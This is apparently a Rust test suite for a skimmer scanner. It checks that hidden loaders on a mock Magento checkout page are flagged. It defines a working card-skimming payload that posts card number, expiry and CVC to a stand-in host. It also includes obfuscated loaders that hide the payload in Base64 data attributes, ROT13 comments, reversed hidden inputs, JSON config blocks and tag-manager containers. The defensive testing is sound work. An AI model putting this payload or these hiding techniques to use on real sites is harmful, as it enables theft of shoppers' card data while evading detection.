//! Loaders that keep the skimmer where no script inventory looks (issue 9, classes 3 and 7):
//! Base64 in a `data-` attribute, an HTML comment, a string of a JSON data block, a hidden
//! input, or a string in another script file, run by a small script of the page
//! (`Function(atob(el.dataset.widget))()`). The page's data is decoded and analysed as code
//! the page loads at run time; the stored string is analysed where it is. Ordinary data
//! (JSON configs, images, consent blocks, templates) stays data.

mod common;
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use common::{html, js, scan_json, serve};
use serde_json::Value;

/// The payload: reads the card on the order button and posts it out.
const PAYLOAD: &str = "(function () {
  function grab() {
    var d = { n: document.getElementById('cc_number').value, e: document.getElementById('cc_exp').value,
              c: document.getElementById('cc_cid').value };
    var x = new XMLHttpRequest();
    x.open('POST', 'https://swatch-render-cdn.example/v2/batch');
    x.setRequestHeader('Content-Type', 'text/plain');
    x.send(JSON.stringify(d));
  }
  document.addEventListener('click', function (ev) { if (ev.target && ev.target.id === 'place-order') { grab(); } });
})();";

const HOST: &str = "swatch-render-cdn.example";

fn page(head: &str, body: &str) -> String {
    format!(
        r#"<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Checkout | Luma Outdoor</title>
<link rel="stylesheet" href="/static/css/styles-m.css">{head}</head>
<body class="checkout-index-index">
<div class="page-wrapper"><header class="page-header"><a class="logo" href="/">Luma Outdoor</a></header>
<main id="maincontent"><form id="co-payment-form" action="/checkout/payment/place" method="post">
  <fieldset class="payment-method"><legend>Credit card</legend>
  <input id="cc_number" name="payment[cc_number]" autocomplete="cc-number" inputmode="numeric">
  <input id="cc_exp" name="payment[cc_exp]" autocomplete="cc-exp" placeholder="MM/YY">
  <input id="cc_cid" name="payment[cc_cid]" autocomplete="cc-csc">
  </fieldset>
  <button id="place-order" type="button" class="action primary checkout">Place Order</button>
</form></main>{body}</div></body></html>"#
    )
}

fn scan(page_html: String, scripts: &[(&str, String)]) -> (i32, Value) {
    let mut routes = vec![("/checkout/", html(&page_html))];
    for (path, body) in scripts {
        routes.push((path, js(body)));
    }
    let server = serve(routes);
    let resolve = server.resolve("luma.example");
    let url = server.url("luma.example", "/checkout/");
    let (code, report, stderr) =
        scan_json(&["--no-cache", "--depth", "0", "--resolve", &resolve, &url]);
    assert!(matches!(code, 0 | 1), "exit {code}\n{stderr}\n{report}");
    (code, report)
}

/// The critical finding naming the payload's host, and the script it was reported on.
fn critical_script(report: &Value) -> Option<String> {
    report["findings"].as_array()?.iter().find_map(|f| {
        let named = f["hosts"].as_array()?.iter().any(|h| h == HOST);
        (named && f["severity"] == "critical").then(|| f["script"].as_str().unwrap_or("").into())
    })
}

fn data_rows(report: &Value) -> Vec<String> {
    report["scripts"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|s| s["id"].as_str().is_some_and(|id| id.contains("#data-")))
        .map(|s| format!("{} {}", s["id"], s["kind"]))
        .collect()
}

const RUN_ATTRIBUTE: &str = "(function () { var el = document.querySelector('[data-mage-swatch]'); if (el) { new Function(atob(el.getAttribute('data-mage-swatch')))(); } })();";

#[test]
fn code_in_a_data_attribute_is_analysed_as_code_the_page_loads() {
    let body = format!(
        r#"<div class="swatch-opt" data-role="swatch-options" data-mage-swatch="{}"></div>
<script src="/static/js/swatch-renderer.js"></script>"#,
        STANDARD.encode(PAYLOAD)
    );
    let (code, report) = scan(
        page("", &body),
        &[("/static/js/swatch-renderer.js", RUN_ATTRIBUTE.into())],
    );
    assert_eq!(code, 1);
    let script = critical_script(&report).expect("the payload's flow is critical");
    assert!(script.ends_with("/checkout/#data-1"), "{script}");
    let row = report["scripts"]
        .as_array()
        .unwrap()
        .iter()
        .find(|s| s["id"] == script.as_str())
        .expect("an inventory row");
    assert_eq!(row["kind"], "dynamic");
    assert!(row["url"].is_null());
    // Where the data sits in the page, so a responder can find it.
    assert!(row["page_line"].as_u64().unwrap() > 1, "{row}");
}

#[test]
fn code_in_a_comment_a_data_block_or_a_hidden_input_is_found() {
    let b64 = STANDARD.encode(PAYLOAD);
    let reversed: String = b64.chars().rev().collect();
    // The cheapest ciphers over Base64: ROT13, and every character shifted by one.
    let rot13 = skimscan::encoded::rot13(&b64);
    let shifted: String = b64
        .chars()
        .map(|c| char::from_u32(c as u32 + 1).unwrap())
        .collect();
    let cases = [
        (
            String::new(),
            format!("<!-- {rot13} -->"),
            "(function () { var w = document.createTreeWalker(document.documentElement, 128), n; while ((n = w.nextNode())) { var t = n.nodeValue.trim().replace(/[a-z]/gi, function (c) { var b = c <= 'Z' ? 65 : 97; return String.fromCharCode((c.charCodeAt(0) - b + 13) % 26 + b); }); if (t.length > 100) { window['ev' + 'al'](atob(t)); } } })();",
        ),
        (
            String::new(),
            format!(
                r#"<div class="widget" data-config="{}"></div>"#,
                shifted.replace('"', "&quot;")
            ),
            "(function () { var s = document.querySelector('.widget').getAttribute('data-config'); var d = ''; for (var i = 0; i < s.length; i++) { d += String.fromCharCode(s.charCodeAt(i) - 1); } new Function(atob(d))(); })();",
        ),
        (
            String::new(),
            format!("<!-- build:{b64} -->"),
            "(function () { var w = document.createTreeWalker(document.body, NodeFilter.SHOW_COMMENT), n; while ((n = w.nextNode())) { var m = /build:(\\S+)/.exec(n.nodeValue); if (m) { eval(atob(m[1])); } } })();",
        ),
        (
            format!(
                r#"<script type="text/x-magento-init">{{"*": {{"Magento_Ui/js/core/app": {{"components": {{"swatch": {{"template": "{b64}"}}}}}}}}}}</script>"#
            ),
            String::new(),
            "(function () { var cfg = JSON.parse(document.querySelector('script[type=\"text/x-magento-init\"]').textContent); var s = document.createElement('script'); s.text = atob(cfg['*']['Magento_Ui/js/core/app'].components.swatch.template); document.head.appendChild(s); })();",
        ),
        (
            String::new(),
            format!(r#"<input type="hidden" name="form_key_ext" id="fk-ext" value="{reversed}">"#),
            "document.addEventListener('DOMContentLoaded', function () { var v = document.getElementById('fk-ext').value; window['ev' + 'al'](atob(v.split('').reverse().join(''))); });",
        ),
    ];
    for (head, body, runner) in cases {
        let body = format!(r#"{body}<script src="/static/js/runner.js"></script>"#);
        let (code, report) = scan(
            page(&head, &body),
            &[("/static/js/runner.js", runner.into())],
        );
        assert_eq!(code, 1, "{body}");
        let script = critical_script(&report).unwrap_or_else(|| panic!("not found: {body}"));
        assert!(script.contains("#data-"), "{script}");
    }
}

#[test]
fn a_payload_stored_in_one_file_and_run_by_another_is_reported_where_it_is_stored() {
    let vendor = format!(
        "/*! jQuery UI widget bundle */\nwindow.__luma_ui_state = \"{}\";\nwindow.lumaUi = {{ version: '1.13.2' }};\n",
        STANDARD.encode(PAYLOAD)
    );
    let app = "setTimeout(function () { if (window.__luma_ui_state) { Function(atob(window.__luma_ui_state))(); } }, 400);";
    let (code, report) = scan(
        page(
            "",
            r#"<script src="/static/js/vendor.js"></script><script src="/static/js/app.js"></script>"#,
        ),
        &[
            ("/static/js/vendor.js", vendor),
            ("/static/js/app.js", app.into()),
        ],
    );
    assert_eq!(code, 1);
    let script = critical_script(&report).expect("the stored payload's flow is critical");
    assert!(script.ends_with("/static/js/vendor.js"), "{script}");
    let f = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["severity"] == "critical")
        .unwrap();
    assert!(
        f["evidence"]
            .as_str()
            .unwrap()
            .contains("encoded in a string of the script"),
        "{f}"
    );
}

#[test]
fn ordinary_page_data_stays_data() {
    let config = STANDARD.encode(
        r#"{"currency":"EUR","locale":"de_DE","shipping":{"free_over":50,"carriers":["dhl","ups"]},"checkout":{"steps":["shipping","payment"],"guest":true}}"#,
    );
    let pixel = STANDARD.encode([0x89u8, b'P', b'N', b'G', 13, 10, 26, 10, 0, 0, 0, 13].repeat(12));
    let head = r##"<script type="text/x-magento-init">{"#checkout": {"Magento_Checkout/js/view/payment": {"template": "Magento_Checkout/payment", "tooltipText": "For your security we ask for the three digits on the back of your card (function: verification)."}}}</script>
<script type="text/plain" data-cookieconsent="statistics">(function () { var s = document.createElement('script'); s.async = true; s.src = '/static/js/analytics.js?id=G-LUMA123'; document.head.appendChild(s); window.dataLayer = window.dataLayer || []; })();</script>
<script type="text/babel">function Badge(props) { return <span className="badge">{props.label}</span>; } ReactDOM.render(<Badge label="Secure checkout" />, document.getElementById('badge'));</script>
<script type="text/x-template" id="minicart-item"><li class="item"><span class="name">{{ name }}</span> (<span class="qty">{{ qty }}</span>); <a href="#" class="remove">Remove</a></li></script>"##;
    let body = format!(
        r#"<div id="checkout-config" data-config="{config}"></div><img data-src="data:image/png;base64,{pixel}" alt="">
<div data-bind="scope: 'checkout'" data-mage-init='{{"Magento_Ui/js/core/app": {{"components": {{"checkout": {{"component": "Magento_Checkout/js/view/payment/default"}}}}}}}}'></div>
<script src="/static/js/checkout.js"></script>"#
    );
    let app = "(function () { var cfg = JSON.parse(atob(document.getElementById('checkout-config').dataset.config)); document.querySelector('.checkout').dataset.currency = cfg.currency; })();";
    let analytics = "window.dataLayer = window.dataLayer || []; function gtag() { dataLayer.push(arguments); } gtag('js', new Date()); gtag('config', 'G-LUMA123');";
    let (code, report) = scan(
        page(head, &body),
        &[
            ("/static/js/checkout.js", app.into()),
            ("/static/js/analytics.js", analytics.into()),
        ],
    );
    let high: Vec<&Value> = report["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| matches!(f["severity"].as_str(), Some("high" | "critical")))
        .collect();
    assert!(high.is_empty(), "{high:#?}");
    assert_eq!(code, 0);
    let rows = data_rows(&report);
    assert!(rows.is_empty(), "{rows:?}");
    // The consent block is code as it stands (the consent manager runs it once the customer
    // agrees): analysed, and quiet. The JSON and the template are not code.
    let analysed: Vec<(String, bool)> = report["scripts"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|s| s["kind"] == "inline")
        .map(|s| {
            (
                s["script_type"].as_str().unwrap_or("").to_string(),
                s["analysed"] == true,
            )
        })
        .collect();
    assert_eq!(
        analysed,
        vec![
            ("text/x-magento-init".to_string(), false),
            ("text/plain".to_string(), true),
            ("text/babel".to_string(), false),
            ("text/x-template".to_string(), false),
        ]
    );
}

/// A tag manager's container kept as JSON in the page: a "custom HTML" tag holds markup whose
/// `<script>` the runtime writes into the page. That script is code the page loads.
#[test]
fn a_script_in_markup_in_a_container_block_is_code_the_page_loads() {
    let container = serde_json::json!({
        "container": "TP-8KQ2M",
        "tags": [
            { "id": "10", "type": "img", "url": "https://www.google-analytics.com/g/collect?v=2&en=begin_checkout" },
            { "id": "14", "type": "html", "name": "cHTML - checkout helper",
              "html": format!("<div class=\"helper\"></div><script>\n{PAYLOAD}\n</script>") }
        ]
    });
    let json = container.to_string().replace("</", "<\\/");
    let head =
        format!(r#"<script type="application/json" id="tagpilot-container">{json}</script>"#);
    let runtime = "(function () { var c = JSON.parse(document.getElementById('tagpilot-container').textContent); \
                   c.tags.forEach(function (t) { if (t.type === 'html') { var h = document.createElement('div'); h.innerHTML = t.html; \
                   [].forEach.call(h.getElementsByTagName('script'), function (s) { var n = document.createElement('script'); n.text = s.text; document.head.appendChild(n); }); } }); })();";
    let (code, report) = scan(
        page(&head, r#"<script src="/static/js/tagpilot.js"></script>"#),
        &[("/static/js/tagpilot.js", runtime.into())],
    );
    assert_eq!(code, 1, "{report:#}");
    let script = critical_script(&report).expect("the helper's flow is critical");
    assert!(script.ends_with("/checkout/#data-1"), "{script}");
}
